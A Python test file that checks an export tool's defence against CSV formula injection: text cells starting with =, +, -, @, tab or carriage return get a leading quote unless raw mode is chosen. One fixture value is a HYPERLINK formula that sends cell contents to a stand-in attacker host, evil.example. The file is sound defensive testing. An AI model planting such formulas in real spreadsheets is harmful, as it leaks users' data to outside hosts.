"""A CSV export cannot run as a spreadsheet formula (issue 21, point 4): text cells that start
with = + - @, a tab or a carriage return get a leading ' unless --csv-raw."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import httpx
import polars as pl
import pyarrow as pa
import pytest

from runner.export._writers import defuse_csv_table, defuse_csv_text
from tests.export_helpers import export_cli, make_run

ANSWERS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a plain answer",
    "it costs = 5",
]


def formula_answer(body: dict[str, Any], attempt: int) -> httpx.Response:
    i = int(body["metadata"]["row_id"])
    return httpx.Response(200, json={"request_id": "r", "response": ANSWERS[i]})


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    data = tmp_path / "data.csv"
    pl.DataFrame({"question": ["=1+1", *[f"q{i}" for i in range(1, len(ANSWERS))]]}).write_csv(data)
    return make_run(data, tmp_path / "out", "v", respond=formula_answer)


def read_cells(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [row[column] for row in csv.DictReader(fh)]


def test_a_csv_export_of_formula_like_outputs_reads_back_with_a_leading_quote(
    tmp_path: Path, run_dir: Path
) -> None:
    target = tmp_path / "x.csv"
    result = export_cli(run_dir, "--to", target)
    assert result.exit_code == 0, result.output
    outputs = read_cells(target, "output")
    assert outputs[0] == "'" + ANSWERS[0] and outputs[0].startswith("'=HYPERLINK(")
    assert outputs[:6] == ["'" + a for a in ANSWERS[:6]]
    assert outputs[6:] == ANSWERS[6:]
    assert read_cells(target, "question")[0] == "'=1+1"  # the dataset's own cells too
    assert read_cells(target, "status") == ["ok"] * len(ANSWERS)


def test_csv_raw_writes_the_cells_as_they_are(tmp_path: Path, run_dir: Path) -> None:
    target = tmp_path / "raw.csv"
    result = export_cli(run_dir, "--to", target, "--csv-raw")
    assert result.exit_code == 0, result.output
    assert read_cells(target, "output") == ANSWERS


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_parquet_and_jsonl_keep_the_text_unchanged(tmp_path: Path, run_dir: Path, fmt: str) -> None:
    target = tmp_path / f"x.{fmt}"
    result = export_cli(run_dir, "--to", target)
    assert result.exit_code == 0, result.output
    if fmt == "parquet":
        outputs = pl.read_parquet(target)["output"].to_list()
    else:
        lines = target.read_text(encoding="utf-8").splitlines()
        outputs = [json.loads(line)["output"] for line in lines]
    assert outputs == ANSWERS


def test_only_text_cells_are_quoted_numbers_and_nulls_stay() -> None:
    table = pa.table(
        {
            "n": pa.array([-1, 2, None], pa.int64()),
            "t": pa.array(["-1", None, "ok"], pa.string()),
            "l": pa.array(["@x", "=y", ""], pa.large_string()),
        }
    )
    out = defuse_csv_table(table)
    assert out.column("n").to_pylist() == [-1, 2, None]
    assert out.column("t").to_pylist() == ["'-1", None, "ok"]
    assert out.column("l").to_pylist() == ["'@x", "'=y", ""]
    assert out.schema == table.schema


@pytest.mark.parametrize(
    ("text", "safe"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("", ""), ("a=1", "a=1"), (" =1", " =1"), ("'=1", "'=1")],
)  # fmt: skip
def test_defuse_csv_text_follows_the_owasp_rule(text: str, safe: str) -> None:
    assert defuse_csv_text(text) == safe
